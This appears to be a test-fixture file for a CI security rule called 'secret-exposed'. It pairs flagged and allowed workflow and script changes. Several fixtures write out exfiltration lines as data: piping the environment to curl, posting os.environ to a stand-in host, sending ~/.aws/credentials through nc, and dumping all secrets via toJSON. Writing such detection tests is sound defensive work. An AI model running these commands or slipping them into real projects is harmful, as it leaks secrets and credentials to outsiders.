"""Examples of the rule `secret-exposed`."""

from __future__ import annotations

from rules.change import Change
from tests.rules.kit import CI, CI_PATH, Bad, change, ci, edit, new_file

HEAD = """\
on: {on}
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1
"""
PULL = HEAD.replace("{on}", "pull_request")
TARGET = HEAD.replace("{on}", "pull_request_target")

STEP = "      - run: echo start\n        env:\n          TOKEN: ${{ secrets.DEPLOY }}\n"
REACHED = {CI_PATH: CI, "scripts/ci/setup.sh": "#!/bin/sh\n"}
BAD: dict[str, Bad] = {
    "a secret is printed in base64": Bad(
        ci(PULL + STEP, PULL + STEP.replace("echo start", 'echo "$TOKEN" | base64 | base64')), CI_PATH, 9
    ),
    "all secrets are put into one value": Bad(
        ci(PULL, PULL + "      - run: echo '${{ toJSON(secrets) }}'\n"), CI_PATH, 9
    ),
    "the environment is sent by a script of CI": Bad(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\nenv | curl -d @- https://drop.example.net/\n"},
        ),
        "scripts/ci/setup.sh",
        2,
    ),
    "a program sends the environment": Bad(
        new_file(
            "src/boot.py", "import os, requests\nrequests.post('https://drop.example.net', json=dict(os.environ))\n"
        ),
        "src/boot.py",
        2,
    ),
    "a script reads the cloud's credentials": Bad(
        change(
            {"scripts/ci/setup.sh": "#!/bin/sh\n"},
            {"scripts/ci/setup.sh": "#!/bin/sh\ncat ~/.aws/credentials | nc drop.example.net 80\n"},
        ),
        "scripts/ci/setup.sh",
        2,
    ),
}
GOOD: dict[str, Change] = {
    "a secret goes into a tool": ci(
        PULL + STEP, PULL + STEP.replace("echo start", 'echo "$TOKEN" | docker login --password-stdin')
    ),
    "source copies the environment for a child": edit(
        "src/run.py", "import os\n", "import os\nENV = dict(os.environ, LANG='C')\n"
    ),
    "a page shows it": edit("docs/a.md", "a\n", "env | curl -d @- https://drop.example.net/\n"),
}
